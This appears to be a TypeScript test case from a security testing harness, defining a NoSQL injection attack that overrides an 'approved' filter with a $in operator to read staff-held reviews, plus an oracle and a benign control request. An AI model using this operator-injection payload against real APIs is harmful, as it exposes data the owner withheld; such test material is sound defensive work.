import { defineAttack } from '../../attack/attack.ts'
import type { Attack } from '../../attack/attack.ts'

/** Reads reviews that staff holds back by overriding the filter. */
export const nosqlHeldReview: Attack = defineAttack({
  id: 'nosql-held-review',
  class: 'nosql-injection',
  title: 'Reads reviews that staff holds back by overriding the filter',
  cwe: 943,
  capec: 676,
  technique: 'T1190',
  preconditions: [],

  steps: ({ visitor }) => visitor.json('/api/reviews/find', { approved: { $in: [true, false] } }),
  oracle: (answer, { witness }) => answer.text.includes(witness.loot.heldReview),
  twin: ({ visitor }) => visitor.json('/api/reviews/find', { product: 3 }),
})
